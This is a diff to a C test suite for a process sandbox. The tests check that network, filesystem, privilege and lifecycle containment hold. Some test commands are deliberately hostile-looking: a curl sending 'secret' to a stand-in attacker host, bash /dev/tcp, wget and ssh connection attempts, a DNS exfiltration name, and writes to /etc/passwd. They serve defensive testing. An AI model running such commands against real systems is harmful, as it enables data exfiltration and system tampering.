@@ -20,6 +20,8 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <grp.h>
+#include <pthread.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -123,17 +125,21 @@ static const struct cs_event *find_event(const struct run *R, const char *name)
     return NULL;
 }
 
-/* Host processes (outside any sandbox we own) whose uid is 1000. */
+/* Live processes (any namespace) whose uid is 1000; zombies are not counted. */
 static int count_uid1000(void)
 {
     DIR *d = opendir("/proc");
     int n = 0;
     for (struct dirent *e; d && (e = readdir(d));) {
         if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
-        char p[64];
+        char p[300], line[512] = "";
         struct stat st;
-        snprintf(p, sizeof p, "/proc/%s", e->d_name);
-        if (stat(p, &st) == 0 && st.st_uid == 1000) n++;
+        snprintf(p, sizeof p, "/proc/%s/stat", e->d_name);
+        if (stat(p, &st) != 0 || st.st_uid != 1000) continue;
+        FILE *f = fopen(p, "r");
+        if (f) { if (!fgets(line, sizeof line, f)) line[0] = 0; fclose(f); }
+        char *rp = strrchr(line, ')');
+        if (!(rp && rp[1] && rp[2] == 'Z')) n++;
     }
     if (d) closedir(d);
     return n;
@@ -182,11 +188,39 @@ static int bind_udp(int *port)
 
 /* ------------------------------------------------------------ tests */
 
+static void test_policy(void)
+{
+    static const struct { const char *name, *text, *error; } bad[] = {
+        { "policy/no-default", "allow read\n", "no `default` line" },
+        { "policy/unknown-syscall", "default errno:ENOSYS\nallow readd\n", "t:2: unknown syscall `readd`" },
+        { "policy/unknown-errno", "default errno:ENOSYS\nnotify:EWHATEVER ptrace\n", "t:2: unknown action" },
+        { "policy/mix", "default errno:ENOSYS\nallow ioctl\nnotify:EPERM ioctl if a1 == TIOCSTI\n", "t:3: ioctl already has a rule on line 2" },
+        { "policy/bad-cond", "default errno:ENOSYS\nallow clone if a7 == 0\n", "t:2: bad condition" },
+        { "policy/two-syscalls-cond", "default errno:ENOSYS\nallow read write if a0 == 1\n", "names exactly one syscall" },
+    };
+    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
+        TEST(bad[i].name) {
+            char err[256] = "";
+            struct cs_policy *p = cs_policy_parse(bad[i].text, "t", err, sizeof err);
+            char name[128];
+            snprintf(name, sizeof name, "%s: refused with a precise message", bad[i].name);
+            check(!p && strstr(err, bad[i].error), name, NULL, "got '%s'", err);
+            cs_policy_free(p);
+        }
+    }
+    TEST("policy/optional") {
+        char err[256] = "";
+        struct cs_policy *p = cs_policy_parse("default errno:ENOSYS\nallow read no_such_call_yet?\n", "t", err, sizeof err);
+        check(p != NULL, "policy/optional: a `name?` unknown to libseccomp is skipped", NULL, "%s", err);
+        cs_policy_free(p);
+    }
+}
+
 static void test_ordinary(void)
 {
     TEST("work/identity") {
         struct run *R = sbx("id; hostname; pwd; whoami");
-        check(ran_ok(R) && strcmp(R->out, "uid=1000(alice) gid=1000(alice) groups=1000(alice),100(users)\nws-alice\n/home/alice\nalice\n") == 0,
+        check(ran_ok(R) && strcmp(R->out, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\nws-alice\n/home/alice\nalice\n") == 0,
               "work/identity: uid, hostname, cwd from the scenario", R, "unexpected identity");
         run_free(R);
     }
@@ -261,7 +295,7 @@ static void test_ordinary(void)
 static void test_network(void)
 {
     TEST("net/tcp-canary") {
-        int port, ls = listen_tcp(&port);
+        int port = 0, ls = listen_tcp(&port);
         char cmd[128];
         snprintf(cmd, sizeof cmd, "probe connect4 %d", port);
         struct run *R = sbx(cmd);
@@ -284,7 +318,7 @@ static void test_network(void)
         run_free(R);
     }
     TEST("net/udp-canary") {
-        int port, us = bind_udp(&port);
+        int port = 0, us = bind_udp(&port);
         char cmd[160];
         snprintf(cmd, sizeof cmd, "probe udp %d; probe udpmsg %d", port, port);
         struct run *R = sbx(cmd);
@@ -303,6 +337,43 @@ static void test_network(void)
         check(ran_ok(R) && strstr(R->out, "dns rc=-1 errno=ENETUNREACH") && e && strcmp(e->addr, "10.0.0.2") == 0 && e->port == 53 &&
               strcmp(e->detail, "dns_query=secret.exfil.example") == 0,
               "net/dns-exfil: UDP/53 query recorded with its name", R, "dns");
+        run_free(R);
+    }
+    TEST("net/tools") {  /* bash /dev/tcp, wget, ssh: each fails and each destination is recorded */
+        int port = 0, ls = listen_tcp(&port);
+        char cmd[400];
+        snprintf(cmd, sizeof cmd, "bash -c 'echo x > /dev/tcp/127.0.0.1/%d'; echo bash=$?; wget -q -T 3 -t 1 http://10.20.30.40:8080/; echo wget=$?; "
+                 "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p 2222 10.9.8.7 true 2>/dev/null; echo ssh=$?", port);
+        struct run *R = sbx(cmd);
+        int seen[3] = { 0, 0, 0 };
+        for (int i = 0; i < R->nev; i++) {
+            const struct cs_event *e = &R->ev[i];
+            if (strcmp(e->syscall, "connect") || e->decision != CS_DECIDE_DENY || e->error != ENETUNREACH) continue;
+            seen[0] |= strcmp(e->addr, "127.0.0.1") == 0 && e->port == port;
+            seen[1] |= strcmp(e->addr, "10.20.30.40") == 0 && e->port == 8080;
+            seen[2] |= strcmp(e->addr, "10.9.8.7") == 0 && e->port == 2222;
+        }
+        int accepted = accept(ls, NULL, NULL);
+        check(R->rc == 0 && strstr(R->out, "bash=1\nwget=4\nssh=255\n") && strstr(R->err, "/dev/tcp/127.0.0.1/") &&
+              strstr(R->err, "Network is unreachable") && seen[0] && seen[1] && seen[2] && accepted < 0,
+              "net/tools: bash /dev/tcp to the canary, wget, ssh all fail; all three destinations recorded; canary untouched", R,
+              "seen %d%d%d accepted=%d", seen[0], seen[1], seen[2], accepted);
+        close(ls);
+        run_free(R);
+    }
+    TEST("net/netlink") {
+        struct run *R = sbx("ip -o link | awk '{print $2, $9}'; ip link set lo up; echo rc=$?");
+        check(R->rc == 0 && strcmp(R->out, "lo: DOWN\nrc=2\n") == 0 && strstr(R->err, "Operation not permitted"),
+              "net/netlink: only lo (down) exists; changing it via netlink -> EPERM", R, "netlink");
+        run_free(R);
+    }
+    TEST("net/dns-name") {  /* curl to a name: glibc's resolver connect()s UDP, then sendmmsg's the query */
+        struct run *R = sbx("curl -sS -m 5 'http://files.attacker.example/up?d=secret'; echo rc=$?");
+        const struct cs_event *c = find_event(R, "connect"), *q = find_event(R, "sendmmsg");
+        check(R->rc == 0 && strstr(R->out, "rc=6\n") && strstr(R->err, "Could not resolve host: files.attacker.example") &&
+              c && c->decision == CS_DECIDE_FAKE && strcmp(c->addr, "10.0.0.2") == 0 && c->port == 53 &&
+              q && strcmp(q->detail, "dns_query=files.attacker.example") == 0 && q->decision == CS_DECIDE_DENY && q->error == ENETUNREACH,
+              "net/dns-name: curl to a name fails (rc 6); the looked-up name is recorded (UDP connect faked, query denied)", R, "dns name");
         run_free(R);
     }
     TEST("net/ipv6") {
@@ -332,7 +403,7 @@ static void test_filesystem(void)
         struct run *R = sbx("echo x > /etc/passwd; echo x > /newfile; echo x > /usr/x; mkdir /etc/d; true");
         check(R->rc == 0 && strstr(R->err, "cannot create /etc/passwd: Read-only file system") &&
               strstr(R->err, "cannot create /newfile: Read-only file system") && strstr(R->err, "cannot create /usr/x: Read-only file system") &&
-              strstr(R->err, "mkdir: cannot create directory '/etc/d': Read-only file system"),
+              strstr(R->err, "mkdir: cannot create directory") && strstr(R->err, "/etc/d\xe2\x80\x99: Read-only file system"),
               "fs/etc-readonly: writes to /etc, / and /usr fail with EROFS", R, "EROFS expected");
         run_free(R);
     }
@@ -345,15 +416,16 @@ static void test_filesystem(void)
         run_free(R);
     }
     TEST("fs/links") {
-        struct run *R = sbx("rm -f l h; ln -s /etc/passwd l; echo x >> l; ln /etc/passwd h; true");
-        check(R->rc == 0 && strstr(R->err, "cannot create l: Read-only file system") && strstr(R->err, "Invalid cross-device link"),
-              "fs/links: symlink to /etc/passwd -> EROFS, hardlink -> EXDEV", R, "links");
+        struct run *R = sbx("rm -f l h; ln -s /etc/passwd l; echo x >> l; ln /etc/passwd h; ln -s /proc/1/root r; ls r/; true");
+        check(R->rc == 0 && strstr(R->err, "cannot create l: Permission denied") && strstr(R->err, "Invalid cross-device link") &&
+              strstr(R->err, "cannot access 'r/': Permission denied"),
+              "fs/links: append through a symlink to /etc/passwd -> EACCES, hardlink -> EXDEV, /proc/1/root -> EACCES", R, "links");
         run_free(R);
     }
     TEST("fs/proc") {
-        struct run *R = sbx("ls /proc | grep -c '^[0-9]'; cat /proc/1/cmdline | tr '\\0' ' '; echo; echo 1 > /proc/sys/vm/drop_caches; echo x > /proc/sysrq-trigger; ls /dev | tr '\\n' ' '");
-        check(R->rc == 0 && strncmp(R->out, "3\n/sbin/init", 12) == 0 && strstr(R->err, "/proc/sys/vm/drop_caches: Read-only file system") &&
-              strstr(R->err, "/proc/sysrq-trigger: Read-only file system") && strstr(R->out, "fd full null random shm stderr stdin stdout urandom zero "),
+        struct run *R = sbx("echo /proc/[0-9]*; cat /proc/1/cmdline | od -An -c | tr -s ' '; echo 1 > /proc/sys/vm/drop_caches; ls /dev | tr '\\n' ' '");
+        check(R->rc == 0 && strcmp(R->out, "/proc/1 /proc/2\n / s b i n / i n i t \\0\nfd full null random shm stderr stdin stdout urandom zero ") == 0 &&
+              strstr(R->err, "/proc/sys/vm/drop_caches: Read-only file system"),
               "fs/proc: own pids only, init shows /sbin/init, kernel knobs read-only, minimal /dev", R, "proc");
         run_free(R);
     }
@@ -471,7 +543,7 @@ static void test_resources(void)
         run_free(R);
     }
     TEST("res/tmpfull") {
-        struct run *R = sbx("head -c 100000000 /dev/zero > /tmp/fill; echo rc=$?; df -k /tmp | tail -1 | awk '{print $2}'");
+        struct run *R = sbx("head -c 40000000 /dev/zero > /tmp/a; head -c 40000000 /dev/zero > /tmp/b; echo rc=$?; df -k /tmp | tail -1 | awk '{print $2}'");
         check(R->rc == 0 && strstr(R->err, "No space left on device") && strstr(R->out, "rc=1\n65536\n"),
               "res/tmpfull: /tmp is a 64 MiB tmpfs, filling it gives ENOSPC", R, "tmpfull");
         run_free(R);
@@ -508,7 +580,7 @@ static void test_lifecycle(void)
         char err[512];
         int rc = cs_spawn(&cfg, &ch, err, sizeof err);
         if (rc == 0) cs_run(&ch, pol, NULL, NULL, NULL, &r);
-        check(rc == 0 && r.exec_errno == ENOENT && r.exit_code == 127, "life/exec-failure: a missing binary is reported as exec_errno ENOENT", NULL, "rc=%d", rc);
+        check(rc == 0 && r.exec_errno == ENOENT && r.exit_code == 127, "life/exec-failure: a missing binary is reported as exec_errno ENOENT", NULL, "rc=%d %s", rc, rc ? err : "");
     }
     TEST("life/root-refused") {
         struct cs_config cfg = { 0 };
@@ -540,16 +612,59 @@ static void test_lifecycle(void)
         usleep(50000);
         kill(helper, SIGKILL);
         waitpid(helper, NULL, 0);
-        int gone = 0;
+        int gone = 0;  /* gone, or a zombie waiting for the host's init to reap it */
         for (int i = 0; i < 100 && !gone; i++) {
-            char p[64];
-            snprintf(p, sizeof p, "/proc/%d", init);
-            gone = access(p, F_OK) != 0;
+            char p[64], st[256] = "";
+            snprintf(p, sizeof p, "/proc/%d/stat", init);
+            FILE *f = fopen(p, "r");
+            if (f) { if (!fgets(st, sizeof st, f)) st[0] = 0; fclose(f); }
+            char *rp = strrchr(st, ')');
+            gone = !f || (rp && rp[2] == 'Z');
             if (!gone) usleep(10000);
         }
         int left = count_uid1000();
         check(init > 0 && gone && left == 0, "life/supervisor-dies: SIGKILL of the supervisor takes its sandbox with it", NULL, "init=%d gone=%d left=%d", init, gone, left);
         close(pfd[0]); close(pfd[1]);
+    }
+    TEST("life/userns") {
+        /* An unprivileged caller (uid 65534): cs_spawn adds a user namespace,
+         * maps inside uid/gid 1000 to the caller, and every layer still holds. */
+        char ws[600];
+        snprintf(ws, sizeof ws, "%s/userns-ws", workspace);
+        mkdir(ws, 0755);
+        if (chown(ws, 65534, 65534) != 0) return;
+        int pfd[2];
+        if (pipe(pfd)) return;
+        pid_t c = fork();
+        if (c == 0) {
+            close(pfd[0]);
+            if (setgroups(0, NULL) || setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)) _exit(3);
+            const char *argv[] = { "/bin/sh", "-c", "id; hostname; touch f && ls -n f | awk '{print $3}'; cat /proc/self/uid_map | tr -s ' '; "
+                                   "echo x > /etc/passwd; probe connect4 80 10.1.2.3; probe unshare; grep CapBnd /proc/self/status", NULL };
+            struct cs_bind binds[] = { { "/etc/alternatives", "/etc/alternatives", 0 }, { bindir, "/opt/tests", 0 } };
+            struct cs_config cfg = { .argv = argv, .envp = envp, .workspace = ws, .home = "/home/alice", .rootfs = rootfs,
+                                     .binds = binds, .nbinds = 2, .uid = 1000, .gid = 1000, .hostname = "ws-alice", .policy = pol };
+            struct cs_child ch;
+            static struct run R;
+            R.out = calloc(1, 1 << 16);
+            R.err = calloc(1, 1 << 16);
+            struct cs_run_opts ro = { .timeout_ms = 10000, .out = R.out, .out_cap = 1 << 16, .err = R.err, .err_cap = 1 << 16 };
+            if (cs_spawn(&cfg, &ch, R.spawn_err, sizeof R.spawn_err) == 0) cs_run(&ch, pol, &ro, on_event, &R, &R.r);
+            else R.rc = -1;
+            const struct cs_event *e = find_event(&R, "connect");
+            int ok = R.rc == 0 && strcmp(R.out, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\nws-alice\n1000\n 1000 65534 1\n"
+                     "connect4 rc=-1 errno=ENETUNREACH\nunshare rc=-1 errno=EPERM\nCapBnd:\t0000000000000000\n") == 0 &&
+                     strstr(R.err, "cannot create /etc/passwd: Read-only file system") && e && strcmp(e->addr, "10.1.2.3") == 0;
+            dprintf(pfd[1], "%s|%s|%s|%s", ok ? "ok" : "bad", R.spawn_err, R.out, R.err);
+            _exit(0);
+        }
+        close(pfd[1]);
+        char buf[2048] = "";
+        ssize_t n = read(pfd[0], buf, sizeof buf - 1);
+        if (n > 0) buf[n] = 0;
+        close(pfd[0]);
+        waitpid(c, NULL, 0);
+        check(strncmp(buf, "ok|", 3) == 0, "life/userns: as uid 65534, a user namespace maps alice; root ro, network recorded, no caps", NULL, "%s", buf);
     }
     TEST("life/concurrent") {
         /* Two sandboxes at once: each sees only its own processes. */
@@ -559,12 +674,40 @@ static void test_lifecycle(void)
         struct cs_child A;
         char err[256];
         int rc = cs_spawn(&cfg, &A, err, sizeof err);
-        struct run *R = sbx("ls /proc | grep -c '^[0-9]'; pgrep -c sleep; kill -9 1; echo $?");
+        struct run *R = sbx("echo /proc/[0-9]*; pgrep -c sleep; kill -9 1; echo $?");
         cs_kill(&A);
         struct cs_result ra;
         cs_reap(&A, &ra);
-        check(rc == 0 && ran_ok(R) && strcmp(R->out, "3\n0\n0\n") == 0, "life/concurrent: a second sandbox sees neither the first's sleep nor can it kill its own init", R, "out");
+        check(rc == 0 && ran_ok(R) && strcmp(R->out, "/proc/1 /proc/2\n0\n0\n") == 0, "life/concurrent: a second sandbox sees neither the first's sleep nor can it kill its own init", R, "out");
         run_free(R);
+    }
+}
+
+/* 8 threads x 6 sandboxes each, all at once: no sandbox sees another, and no
+ * pipe end leaks into a sibling's child (that would delay EOF). */
+static void *thread_body(void *arg)
+{
+    long ok = 0;
+    for (int i = 0; i < 6; i++) {
+        struct opts o = { .timeout_ms = 20000, .no_cgroup = 1, .lim = { .nofile = 256 } };
+        struct run *R = sbx_opts("echo /proc/[0-9]*; sleep 0.05", &o);
+        ok += ran_ok(R) && strcmp(R->out, "/proc/1 /proc/2\n") == 0 && R->r.wall_ms < 5000;
+        run_free(R);
+    }
+    (void)arg;
+    return (void *)ok;
+}
+
+static void test_threads(void)
+{
+    TEST("life/threads") {
+        pthread_t th[8];
+        long total = 0;
+        for (int i = 0; i < 8; i++) pthread_create(&th[i], NULL, thread_body, NULL);
+        for (int i = 0; i < 8; i++) { void *r; pthread_join(th[i], &r); total += (long)r; }
+        int left = count_uid1000();
+        check(total == 48 && left == 0, "life/threads: 48 sandboxes from 8 threads at once, each sees only itself, none lingers", NULL,
+              "%ld of 48 ok, left=%d", total, left);
     }
 }
 
@@ -580,12 +723,14 @@ int main(int argc, char **argv)
     if (!pol) { printf("FAIL policy: %s\n", err); return 1; }
     printf("policy %s: %zu BPF instructions\n", policy_path, cs_policy_bpf_len(pol));
     if (count_uid1000() != 0) printf("note: host processes with uid 1000 exist; 'nothing left' checks may fail\n");
+    test_policy();
     test_ordinary();
     test_network();
     test_filesystem();
     test_privilege();
     test_resources();
     test_lifecycle();
+    test_threads();
     TEST("work/sigpipe") {
         struct run *R = sbx("yes | head -1; echo ${PIPESTATUS:-ok}");
         check(ran_ok(R) && strcmp(R->out, "y\nok\n") == 0 && R->err[0] == '\0', "work/sigpipe: SIGPIPE default restored (yes | head)", R, "sigpipe");
